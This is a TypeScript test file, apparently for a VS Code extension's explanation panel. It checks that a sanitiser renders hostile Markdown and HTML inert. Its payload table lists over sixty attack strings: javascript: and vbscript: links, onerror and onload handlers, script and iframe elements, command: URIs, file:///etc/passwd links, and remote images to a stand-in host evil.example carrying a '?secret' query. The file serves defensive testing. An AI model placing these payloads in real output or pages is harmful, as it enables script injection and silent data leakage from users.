import assert from 'node:assert/strict';
import fc from 'fast-check';
import { inertTags, inertText, inertTree, type InertNode } from '../../../src/webview/explain/inertTree';

const host = 'evil.example';

/** Content that a hostile repository, or a model that read one, would like the panel to show. */
const payloads: Readonly<Record<string, string>> = {
	'remote image': `![x](https://${host}/p.png?secret)`,
	'remote image with title': `![x](https://${host}/p.png "t")`,
	'image in a link': `[![x](https://${host}/p.png)](https://${host})`,
	'reference image': `![x][r]\n\n[r]: https://${host}/p.png`,
	'collapsed reference image': `![r][]\n\n[r]: https://${host}/p.png`,
	'data image': '![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)',
	'inline link': `[click](https://${host})`,
	'link with entity in scheme': '[x](java&#x73;cript:alert(1))',
	'javascript link': '[x](javascript:alert(1))',
	'javascript link in capitals': '[x](JaVaScRiPt:alert(1))',
	'javascript link with tab': '[x](java\tscript:alert(1))',
	'vbscript link': '[x](vbscript:msgbox(1))',
	'data link': '[x](data:text/html,<script>alert(1)</script>)',
	'command link': '[run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22x%22%7D)',
	'vscode link': '[open](vscode://file/etc/passwd)',
	'vscode-resource link': '[open](vscode-resource:/etc/passwd)',
	'file link': '[open](file:///etc/passwd)',
	'protocol-relative link': `[x](//${host}/a)`,
	'reference link': `[x][r]\n\n[r]: https://${host}`,
	'shortcut reference link': `[r]\n\n[r]: command:workbench.action.quit`,
	'link with angle destination': `[x](<https://${host}/a b>)`,
	autolink: `<https://${host}>`,
	'command autolink': '<command:workbench.action.quit>',
	'mail autolink': `<a@${host}>`,
	'bare address': `https://${host}/a`,
	'bare www address': `www.${host}`,
	'script element': '<script>alert(1)</script>',
	'script element inside a paragraph': 'a <script>alert(1)</script> b',
	'end of script': '</script><script>alert(1)</script>',
	'image element': `<img src="https://${host}/p.png">`,
	'image element with handler': '<img src=x onerror=alert(1)>',
	'svg element': '<svg onload=alert(1)><script>alert(1)</script></svg>',
	'iframe element': `<iframe src="https://${host}"></iframe>`,
	'style element': `<style>@import url(https://${host}/a.css)</style>`,
	'link element': `<link rel=stylesheet href=https://${host}>`,
	'meta refresh': `<meta http-equiv="refresh" content="0;url=https://${host}">`,
	'base element': `<base href="https://${host}/">`,
	'form element': `<form action="https://${host}"><input name=a><button>go</button></form>`,
	'anchor element': '<a href="command:workbench.action.quit">x</a>',
	'details with handler': '<details open ontoggle=alert(1)>x</details>',
	'math element': '<math><mtext></mtext><script>alert(1)</script></math>',
	'template element': '<template><img src=x onerror=alert(1)></template>',
	'custom element': '<x-evil onclick=alert(1)>x</x-evil>',
	'html comment': '<!-- <script>alert(1)</script> -->',
	cdata: '<![CDATA[<script>alert(1)</script>]]>',
	'processing instruction': '<?php echo 1 ?>',
	'escaped html as entities': '&lt;script&gt;alert(1)&lt;/script&gt;',
	'numeric entities': '&#60;img src=x onerror=alert(1)&#62;',
	'entity for a colon': '[x](javascript&colon;alert(1))',
	'mermaid fence': `\`\`\`mermaid\ngraph TD; A-->B; click A "https://${host}"\n\`\`\``,
	'svg fence': '```svg\n<svg onload=alert(1)></svg>\n```',
	'html fence': '```html\n<script>alert(1)</script>\n```',
	'fence with hostile info': '```js" onclick="alert(1)\nx\n```',
	'link in a heading': `# [x](https://${host})`,
	'image in a list': `- ![x](https://${host}/p.png)`,
	'image in a quotation': `> ![x](https://${host}/p.png)`,
	'link in strong': `**[x](https://${host})**`,
	'link in code': `\`[x](https://${host})\``,
	'link in a table': `| a |\n|---|\n| [x](https://${host}) |`,
	'prototype names': '[__proto__][constructor] ![toString][hasOwnProperty]',
	'math block': '$$\\href{javascript:alert(1)}{x}$$',
	'deep nesting': `${'> '.repeat(500)}![x](https://${host}/p.png)`,
	'many brackets': `${'['.repeat(2000)}x${']('.repeat(10)}`,
	'null character': 'a\u0000<script>alert(1)</script>',
};

/** Every node is text, one of the closed set, or a pair of line numbers: nothing has an address, an attribute, a handler. */
function assertInert(nodes: readonly InertNode[]): void {
	for (const node of nodes) {
		if (typeof node === 'string') {
			continue;
		}
		if (node.tag === 'lines') {
			assert.deepEqual(Object.keys(node).sort(), ['first', 'last', 'tag', 'text']);
			assert.ok(Number.isInteger(node.first) && Number.isInteger(node.last) && node.first >= 1);
			continue;
		}
		assert.deepEqual(Object.keys(node).sort(), ['children', 'tag']);
		assert.ok(inertTags.includes(node.tag), `${node.tag} is not in the closed set`);
		assertInert(node.children);
	}
}

describe('hostile Markdown', () => {
	for (const [name, payload] of Object.entries(payloads)) {
		it(`${name} becomes inert`, () => {
			assertInert(inertTree(payload));
		});

		it(`${name} becomes inert amid ordinary prose`, () => {
			assertInert(inertTree(`It adds **two** numbers.\n\n- one ${payload}\n\n${payload}\n\nSee line 3.`));
		});
	}

	it('is a corpus of at least sixty', () => {
		assert.ok(Object.keys(payloads).length >= 60);
	});

	it('has no element in the closed set that could load, navigate or run', () => {
		const live = ['a', 'img', 'script', 'style', 'iframe', 'svg', 'form', 'input', 'link', 'object', 'embed', 'video'];
		assert.deepEqual(
			inertTags.filter(tag => live.includes(tag)),
			[],
		);
	});

	for (const [shown, payload] of [
		['click (https://evil.example)', '[click](https://evil.example)'],
		['https://evil.example', '<https://evil.example>'],
		['pixel (https://evil.example/p.png)', '![pixel](https://evil.example/p.png)'],
		['run (command:workbench.action.quit)', '[run](command:workbench.action.quit)'],
		['[x](javascript:alert(1))', '[x](javascript:alert(1))'],
		['a <script>alert(1)</script> b', 'a <script>alert(1)</script> b'],
		['<img src=x onerror=alert(1)>', '&#60;img src=x onerror=alert(1)&#62;'],
	] as const) {
		it(`shows ${payload} as the text ${shown}`, () => {
			assert.equal(inertText(inertTree(payload)).trim(), shown);
		});
	}

	it('keeps any mixture of payloads inert', () => {
		const piece = fc.oneof(fc.constantFrom(...Object.values(payloads).slice(0, -3)), fc.string({ maxLength: 20 }));
		const join = fc.constantFrom('', ' ', '\n', '\n\n', '**', '`', '> ', '- ');
		fc.assert(
			fc.property(fc.array(fc.tuple(piece, join), { maxLength: 8 }), parts => {
				assertInert(inertTree(parts.flat().join('')));
			}),
			{ numRuns: 200 },
		);
	});
});
